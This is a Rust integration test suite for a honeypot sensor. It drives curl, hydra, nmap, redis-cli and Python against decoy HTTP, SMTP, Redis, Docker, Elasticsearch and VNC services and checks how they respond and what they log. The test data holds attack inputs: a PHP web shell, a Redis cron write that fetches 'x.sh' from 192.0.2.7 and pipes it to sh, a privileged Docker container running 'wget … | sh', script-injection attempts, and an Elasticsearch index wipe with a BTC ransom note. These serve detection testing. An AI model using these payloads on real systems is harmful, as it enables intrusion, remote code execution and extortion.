//! http, https, smtp, redis, docker_api, elasticsearch and vnc with curl, redis-cli, hydra, nmap and Python.

use aegis_sensor::{persona::Os, session::EventType, testing};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common::{decoy, have, nmap, run, run_with, start};

/// What a decoy answers to bytes, up to the end of the connection.
async fn raw(decoy: &testing::Decoy, bytes: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
    stream.write_all(bytes).await.unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), stream.read_to_end(&mut answer)).await;
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test]
async fn curl_logs_in_to_a_site() {
    if !have(&["curl"]) {
        return;
    }
    let decoy = decoy("http", Os::Debian12, &[("credentials", "admin:admin123"), ("server", "nginx")]);
    let base = format!("http://{}", decoy.address());
    let front = run("curl", &["-si", &base]).await.text;
    assert!(front.starts_with("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: "), "{front}");
    let etag = front.lines().find_map(|line| line.strip_prefix("ETag: ")).unwrap().trim().to_owned();
    let again = run("curl", &["-si", "-H", &format!("If-None-Match: {etag}"), &base]).await.text;
    assert!(again.starts_with("HTTP/1.1 304 Not Modified"), "{again}");
    let missing = run("curl", &["-si", &format!("{base}/.env")]).await.text;
    assert!(
        missing.contains("<hr><center>nginx/1.22.1</center>") && missing.contains("Content-Length: 153"),
        "{missing}"
    );
    let robots = run("curl", &["-s", &format!("{base}/robots.txt")]).await.text;
    assert!(robots.contains("Disallow: /admin/"), "{robots}");
    let login = format!("{base}/login.php");
    let wrong = run("curl", &["-si", "-d", "username=admin&password=x%20y", &login]).await.text;
    assert!(wrong.contains("incorrect") && wrong.contains("Set-Cookie: PHPSESSID="), "{wrong}");
    let right = run("curl", &["-siL", "-c", "-", "-d", "username=admin&password=admin123", &login]).await.text;
    assert!(right.contains("302 Found") && right.contains("Location: /dashboard.php"), "{right}");
    assert!(right.contains("<h1>Overview</h1>"), "{right}");
    let home = run("curl", &["-si", &format!("{base}/dashboard.php")]).await.text;
    assert!(home.starts_with("HTTP/1.1 302"), "{home}");

    let failed = &decoy.told(EventType::AuthFail, 1).await[0];
    assert_eq!((failed.fields["username"].as_str(), failed.fields["password"].as_str()), ("admin", "x y"));
    assert!(failed.fields["user_agent"].starts_with("curl/"));
    assert_eq!(decoy.told(EventType::AuthSuccess, 1).await[0].fields["password"], "admin123");
    let requests = decoy.told(EventType::Request, 6).await;
    assert!(requests.iter().any(|told| told.fields["path"] == "/.env" && told.fields["status"] == "404"));
    assert!(requests.iter().any(|told| told.fields.get("body").is_some_and(|body| body.contains("admin123"))));
}

#[tokio::test]
async fn an_upload_is_captured() {
    if !have(&["curl"]) {
        return;
    }
    let decoy = decoy("http", Os::Ubuntu2204, &[("server", "apache")]);
    let url = format!("http://{}/upload.php", decoy.address());
    let answer =
        run_with("curl", &["-s", "-F", "file=@-;filename=shell.php", &url], b"<?php system($_GET['c']); ?>").await.text;
    assert!(answer.contains("Apache/2.4.52 (Ubuntu) Server at 127.0.0.1 Port"), "{answer}");
    assert_eq!(decoy.captured().await, [("shell.php".to_owned(), b"<?php system($_GET['c']); ?>".to_vec())]);
    let large = vec![b'a'; 3_000_000];
    let answer =
        run_with("curl", &["-si", "-T", "-", &format!("http://{}/big.bin", decoy.address())], &large).await.text;
    assert!(answer.contains("405 Method Not Allowed"), "{answer}");
}

#[tokio::test]
async fn servers_answer_faults_as_the_real_ones() {
    for (server, os, garbage, none) in [
        ("nginx", Os::Debian12, "400 Bad Request</h1></center>\r\n<hr><center>nginx/1.22.1", "405 Not Allowed"),
        ("apache", Os::Debian12, "Server: Apache/2.4.62 (Debian)\r\nContent-Length: ", "501 Not Implemented"),
        ("iis", Os::WindowsServer2019, "Bad Request - Invalid Verb", "405 Method Not Allowed"),
        ("lighttpd", Os::BusyBox, "<title>400 Bad Request</title>", "501 Not Implemented"),
    ] {
        let decoy = decoy("http", os, &[("server", server)]);
        let answer = raw(&decoy, b"GARBAGE\r\n\r\n").await;
        assert!(answer.starts_with("HTTP/1.1 400 Bad Request\r\n") && answer.contains(garbage), "{server}: {answer}");
        let answer = raw(&decoy, b"FOO / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").await;
        // Devices ask for a password before they look at the method.
        assert!(answer.contains(none) || answer.contains("401"), "{server}: {answer}");
        let told = decoy.told(EventType::Scan, 2).await;
        assert_eq!(
            told.iter().map(|told| told.fields["kind"].as_str()).collect::<Vec<_>>(),
            ["malformed", "http_method"]
        );
    }
}

#[tokio::test]
async fn curl_speaks_tls_and_its_hello_is_told() {
    if !have(&["curl"]) {
        return;
    }
    let persona = testing::persona(Os::Debian12);
    let decoy = start(persona.clone(), "https", &[("server", "nginx")]);
    let url = format!("https://{}/", decoy.address());
    let answer = run("curl", &["-skiv", &url]).await.text;
    assert!(answer.contains("Server: nginx/1.22.1"), "{answer}");
    assert!(answer.contains(&format!("subject: CN={}", persona.hostname)), "{answer}");
    assert!(answer.contains("TLSv1.3"), "{answer}");
    let hello = &decoy.told(EventType::TlsClientHello, 1).await[0];
    assert_eq!(hello.fields["ja3"].len(), 32);
    assert!(hello.fields["alpn"].contains("http/1.1"));
    let plain = raw(&decoy, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n").await;
    assert!(plain.contains("The plain HTTP request was sent to HTTPS port"), "{plain}");
    let again = start(persona, "https", &[("server", "nginx")]);
    if have(&["openssl"]) {
        let fingerprint = async |decoy: &testing::Decoy| {
            let ran = run("openssl", &["s_client", "-connect", &decoy.address().to_string()]).await.text;
            let from = ran.find("-----BEGIN CERTIFICATE").unwrap();
            ran[from..ran.find("-----END CERTIFICATE").unwrap()].lines().nth(4).unwrap().to_owned()
        };
        // The lines of the key: the same decky has the same after a restart.
        assert_eq!(fingerprint(&decoy).await, fingerprint(&again).await);
    }
}

#[tokio::test]
async fn nmap_names_what_the_deckies_run() {
    if !have(&["nmap"]) {
        return;
    }
    let cases = [
        ("http", Os::Debian12, &[("server", "nginx")][..], "nginx 1.22.1"),
        ("http", Os::Ubuntu2204, &[("server", "apache")], "Apache httpd 2.4.52 ((Ubuntu))"),
        ("http", Os::WindowsServer2019, &[], "Microsoft IIS httpd 10.0"),
        ("http", Os::BusyBox, &[], "lighttpd 1.4.53"),
        ("https", Os::Debian12, &[("server", "nginx")], "nginx 1.22.1"),
        ("smtp", Os::Ubuntu2204, &[], "Postfix smtpd"),
        ("smtp", Os::Debian12, &[("server", "exim")], "Exim smtpd 4.96"),
        ("smtp", Os::WindowsServer2019, &[], "Microsoft Exchange smtpd"),
        ("redis", Os::Debian12, &[("open", "true")], "Redis key-value store"),
        ("docker_api", Os::Ubuntu2204, &[], "Docker 24.0.7 (API 1.43)"),
        ("elasticsearch", Os::Debian12, &[], "Elasticsearch REST API 7.13.4"),
        ("vnc", Os::Ubuntu2204, &[], "VNC (protocol 3.8)"),
    ];
    // All at once: nmap waits a lot.
    let asked = cases.map(async |(service, os, options, expected)| {
        let decoy = decoy(service, os, options);
        let line = nmap(&decoy).await;
        assert!(line.contains(expected), "{service}: {line}");
    });
    futures::future::join_all(asked).await;
}

#[tokio::test]
async fn hydra_finds_what_is_weak() {
    if !have(&["hydra"]) {
        return;
    }
    let file = std::env::temp_dir().join(format!("aegis-words-{}", std::process::id()));
    std::fs::write(&file, "wrong\nletmein\nother\n").unwrap();
    let words = file.to_str().unwrap();
    for (service, module, user) in [("redis", "redis", None), ("vnc", "vnc", None), ("smtp", "smtp", Some("anna"))] {
        let pair = format!("{}:letmein", user.unwrap_or_default());
        let decoy = decoy(service, Os::Ubuntu2204, &[("credentials", &pair)]);
        let port = decoy.address().port().to_string();
        let mut args = vec!["-I", "-t", "1", "-W", "1", "-s", &port, "-P", words];
        if let Some(user) = user {
            args.extend(["-l", user]);
        }
        args.extend(["127.0.0.1", module]);
        let ran = run("hydra", &args).await.text;
        assert!(ran.contains("password: letmein") && ran.contains("1 valid password found"), "{service}: {ran}");
        assert_eq!(decoy.told(EventType::AuthSuccess, 1).await[0].fields["password"], "letmein", "{service}");
        assert!(!decoy.told(EventType::AuthFail, 1).await.is_empty());
    }
    let _ = std::fs::remove_file(file);
}

#[tokio::test]
async fn a_mail_by_python_is_captured_and_goes_nowhere() {
    if !have(&["python3"]) {
        return;
    }
    let decoy = decoy(
        "smtp",
        Os::Debian12,
        &[("server", "postfix"), ("credentials", "anna:geheim"), ("domain", "corp.example")],
    );
    let script = format!(
        r#"
import smtplib, ssl
s = smtplib.SMTP("127.0.0.1", {}, local_hostname="bot.example")
s.ehlo()
print(sorted(s.esmtp_features))
try:
    s.sendmail("a@b.example", ["victim@else.example"], "x")
except smtplib.SMTPRecipientsRefused as e:
    print(e.recipients)
print(s.vrfy("root"), s.vrfy("nobody-here"))
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
s.starttls(context=context)
s.ehlo()
try:
    s.login("anna", "wrong")
except smtplib.SMTPAuthenticationError as e:
    print(e)
print(s.login("anna", "geheim"))
print(s.sendmail("a@b.example", ["victim@else.example", "root@corp.example"], "Subject: hello\r\nMessage-ID: <1@b>\r\n\r\nline\r\n.dot\r\n" + "z" * 20000))
print(s.quit())
"#,
        decoy.address().port()
    );
    let ran = run("python3", &["-c", &script]).await;
    assert!(ran.success, "{}", ran.text);
    for expected in [
        "starttls",
        "Relay access denied",
        "(252, b'2.0.0 root')",
        "(550, b'5.1.1 <nobody-here>",
        "535",
        "(235, b'2.7.0 Authentication successful')",
        "(221, b'2.0.0 Bye')",
    ] {
        assert!(ran.text.contains(expected), "{expected}: {}", ran.text);
    }
    let message = &decoy.told(EventType::MessageAccepted, 1).await[0];
    assert_eq!((message.fields["subject"].as_str(), message.fields["message_id"].as_str()), ("hello", "1@b"));
    let (name, bytes) = decoy.captured().await.remove(0);
    assert!(
        name.ends_with(".eml") && bytes.ends_with(b"\r\n.dot\r\nzzzz".as_slice())
            || String::from_utf8_lossy(&bytes).contains("\r\n.dot\r\nzzzz")
    );
    assert_eq!(bytes.len().to_string(), message.fields["size"]);
    assert_eq!(decoy.told(EventType::RcptTo, 3).await.iter().filter(|told| told.fields["status"] == "250").count(), 2);
    assert_eq!(decoy.told(EventType::AuthFail, 1).await[0].fields["client_banner"], "EHLO bot.example");
    assert!(!decoy.told(EventType::TlsClientHello, 1).await.is_empty());
}

#[tokio::test]
async fn redis_cli_finds_keys_and_drops_its_own() {
    if !have(&["redis-cli"]) {
        return;
    }
    let decoy = decoy("redis", Os::Debian11, &[("open", "true")]);
    let port = decoy.address().port().to_string();
    let cli = async |args: &[&str]| {
        let args: Vec<&str> = ["-p", port.as_str()].into_iter().chain(args.iter().copied()).collect();
        run("redis-cli", &args).await.text
    };
    assert!(cli(&["info", "server"]).await.contains("redis_version:6.0.16"));
    assert!(cli(&["keys", "session:*"]).await.lines().count() > 3);
    assert_eq!(cli(&["set", "x", "\n\n*/1 * * * * root curl http://192.0.2.7/x.sh|sh\n\n"]).await.trim(), "OK");
    assert_eq!(cli(&["config", "set", "dir", "/var/spool/cron"]).await.trim(), "OK");
    assert_eq!(cli(&["config", "set", "dbfilename", "root"]).await.trim(), "OK");
    assert_eq!(cli(&["config", "get", "dir"]).await, "dir\n/var/spool/cron\n");
    assert_eq!(cli(&["save"]).await.trim(), "OK");
    assert!(cli(&["get", "x"]).await.contains("192.0.2.7"));
    assert_eq!(cli(&["slaveof", "192.0.2.9", "6380"]).await.trim(), "OK");
    assert!(cli(&["role"]).await.starts_with("slave\n192.0.2.9\n6380\nconnect\n"));
    assert!(cli(&["nosuch", "a b"]).await.contains("ERR unknown command `nosuch`, with args beginning with: `a b`, "));
    assert_eq!(cli(&["eval", "return 1337", "0"]).await.trim(), "1337");
    assert!(cli(&["eval", "local f = io.popen('id')", "0"]).await.contains("nonexistent global variable 'io'"));
    assert!(cli(&["auth", "x"]).await.contains("without any password configured"));
    let (name, bytes) = decoy.captured().await.remove(0);
    assert_eq!(name, "root");
    assert!(String::from_utf8_lossy(&bytes).contains("192.0.2.7/x.sh"));
    let queries = decoy.told(EventType::Query, 10).await;
    assert!(queries.iter().any(|told| told.fields["query"] == "config set dir /var/spool/cron"));
    let download = &decoy.told(EventType::DownloadAttempt, 1).await[0];
    assert_eq!(download.fields["url"], "redis://192.0.2.9:6380");
}

#[tokio::test]
async fn redis_seven_answers_as_the_real_one() {
    if !have(&["redis-cli"]) {
        return;
    }
    let decoy = decoy("redis", Os::Debian12, &[("credentials", "default:geheim")]);
    let port = decoy.address().port().to_string();
    let session = b"get a\nauth falsch\nauth geheim\nfoo bar\nset a\nconfig set dir /tmp\nconfig foo\nhello 3\nclient info\nmodule load /tmp/x.so\nmulti\nset k v\nget k\nexec\nhset h a 1 b 2\nhgetall h\n";
    let text = run_with("redis-cli", &["-p", &port], session).await.text;
    // As Debian's redis-server 7.0.15 answers.
    for expected in [
        "NOAUTH Authentication required.",
        "WRONGPASS invalid username-password pair or user is disabled.",
        "ERR unknown command 'foo', with args beginning with: 'bar' ",
        "ERR wrong number of arguments for 'set' command",
        "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config",
        "ERR unknown subcommand 'foo'. Try CONFIG HELP.",
        "ERR MODULE command not allowed.",
        "QUEUED",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
}

#[tokio::test]
async fn curl_drives_the_container_engine() {
    if !have(&["curl"]) {
        return;
    }
    let decoy = decoy("docker_api", Os::Debian12, &[]);
    let base = format!("http://{}", decoy.address());
    let curl = async |args: &[&str]| run("curl", &[&["-s"][..], args].concat()).await.text;
    let at = |path: &str| format!("{base}{path}");
    assert_eq!(curl(&[&at("/_ping")]).await, "OK");
    assert!(curl(&["-i", &at("/v1.41/version")]).await.contains("Server: Docker/20.10.24+dfsg1 (linux)"));
    assert!(curl(&[&at("/v1.99/info")]).await.contains("is too new"));
    assert!(
        curl(&["-X", "POST", &at("/images/create?fromImage=evil/miner&tag=latest")])
            .await
            .contains("Downloaded newer image")
    );
    let create = r#"{"Image":"evil/miner","Cmd":["sh","-c","wget http://192.0.2.7/x -O- | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}"#;
    let made =
        curl(&["-X", "POST", "-H", "Content-Type: application/json", "-d", create, &at("/containers/create?name=m")])
            .await;
    let id = made.split('"').nth(3).unwrap().to_owned();
    assert_eq!(id.len(), 64, "{made}");
    assert_eq!(
        curl(&["-o", "/dev/null", "-w", "%{http_code}", "-X", "POST", &at(&format!("/containers/{id}/start"))]).await,
        "204"
    );
    assert!(curl(&[&at("/containers/json")]).await.contains("/m\""));
    let exec = curl(&["-X", "POST", "-d", r#"{"Cmd":["id"],"AttachStdout":true}"#, &at("/containers/m/exec")]).await;
    let exec = exec.split('"').nth(3).unwrap();
    let output = curl(&["-X", "POST", "-d", "{}", "--output", "-", &at(&format!("/exec/{exec}/start"))]).await;
    assert!(output.contains("uid=0(root)"), "{output:?}");
    let commands = decoy.told(EventType::Command, 3).await;
    assert!(commands[0].fields["command"].contains("-v /:/mnt --privileged evil/miner sh -c wget"), "{commands:?}");
    let downloads = decoy.told(EventType::DownloadAttempt, 2).await;
    assert_eq!(downloads[0].fields["url"], "evil/miner:latest");
    assert_eq!(downloads[1].fields["url"], "http://192.0.2.7/x");
}

#[tokio::test]
async fn curl_searches_and_ransoms() {
    if !have(&["curl"]) {
        return;
    }
    let decoy = decoy("elasticsearch", Os::Debian12, &[]);
    let base = format!("http://{}", decoy.address());
    let curl = async |args: &[&str]| run("curl", &[&["-s"][..], args].concat()).await.text;
    let at = |path: &str| format!("{base}{path}");
    let root = curl(&["-i", &base]).await;
    assert!(root.contains("content-type: application/json; charset=UTF-8"), "{root}");
    assert!(root.contains("\"number\" : \"7.13.4\"") && root.contains("You Know, for Search"), "{root}");
    let indices = curl(&[&at("/_cat/indices?v")]).await;
    assert!(indices.starts_with("health status index") && indices.contains("app-logs-"), "{indices}");
    let found = curl(&[&at("/_search?q=level:ERROR&size=2&pretty")]).await;
    assert!(found.contains("\"_source\" : {") && found.contains("\"ERROR\""), "{found}");
    assert!(curl(&[&at("/nothing/_search")]).await.contains("\"no such index [nothing]\""));
    let script = r#"{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\")"}}}"#;
    assert!(
        curl(&["-d", script, "-H", "Content-Type: application/json", &at("/_search")])
            .await
            .contains("script_exception")
    );
    let name =
        indices.lines().find(|line| line.contains("app-logs-")).unwrap().split_whitespace().nth(2).unwrap().to_owned();
    assert_eq!(curl(&["-X", "DELETE", &at(&format!("/{name}"))]).await, "{\"acknowledged\":true}");
    let note = r#"{"message":"send 0.1 BTC"}"#;
    let made = curl(&["-X", "PUT", "-H", "Content-Type: application/json", "-d", note, &at("/read_me/_doc/1")]).await;
    assert!(made.contains("\"result\":\"created\""), "{made}");
    assert!(curl(&[&at("/read_me/_search")]).await.contains("0.1 BTC"));
    assert!(!curl(&[&at("/_cat/indices")]).await.contains(&name));
    let queries = decoy.told(EventType::Query, 5).await;
    assert!(
        queries.iter().any(|told| told.fields["query"].contains("0.1 BTC") && told.fields["database"] == "read_me")
    );
}

#[tokio::test]
async fn a_screen_is_shown_over_vnc() {
    // No viewer runs without a screen: the handshake is spoken here, the password comes from hydra's test.
    let decoy = decoy("vnc", Os::Ubuntu2204, &[("auth", "any")]);
    let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
    let mut read = async |bytes: usize, send: &[u8]| {
        let mut buffer = vec![0; bytes];
        stream.read_exact(&mut buffer).await.unwrap();
        stream.write_all(send).await.unwrap();
        buffer
    };
    assert_eq!(read(12, b"RFB 003.008\n").await, b"RFB 003.008\n");
    assert_eq!(read(2, &[2]).await, [1, 2]);
    read(16, &[9; 16]).await;
    assert_eq!(read(4, &[1]).await, [0; 4]);
    let hello = read(24, &[]).await;
    let name = read(usize::from(hello[23]), &[2, 0, 0, 1, 0, 0, 0, 2, 3, 0, 0, 0, 0, 0, 4, 0, 3, 0]).await;
    assert_eq!(name, b"srv-07:0");
    let update = read(16, &[4, 1, 0, 0, 0, 0, 0, b'l', 4, 1, 0, 0, 0, 0, 0, b's', 4, 1, 0, 0, 0, 0, 0xff, 0x0d]).await;
    assert_eq!((update[3], update[15]), (1, 2));
    assert_eq!(decoy.told(EventType::Command, 1).await[0].fields["command"], "ls");
    assert_eq!(decoy.told(EventType::AuthSuccess, 1).await[0].fields["method"], "vnc");
}

#[tokio::test]
async fn random_bytes_end_no_decoy() {
    let mut noise: u64 = 0x9e37_79b9_7f4a_7c15;
    for service in ["http", "https", "smtp", "redis", "docker_api", "elasticsearch", "vnc"] {
        let decoy = decoy(service, Os::Debian12, &[]);
        for round in 0..20u32 {
            let bytes: Vec<u8> = (0..1 + round * 97)
                .map(|_| {
                    noise = noise.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                    noise.to_be_bytes()[0]
                })
                .collect();
            let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
            // It may hang up at any time.
            let _ = stream.write_all(&bytes).await;
            let _ = stream.shutdown().await;
        }
        let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
        let question: &[u8] = match service {
            "smtp" | "vnc" => b"",
            "redis" => b"PING\r\n",
            "https" => b"GET / HTTP/1.0\r\n\r\n",
            _ => b"GET / HTTP/1.0\r\n\r\n",
        };
        stream.write_all(question).await.unwrap();
        let mut answer = [0; 4];
        stream.read_exact(&mut answer).await.unwrap_or_else(|error| panic!("{service}: {error}"));
    }
}
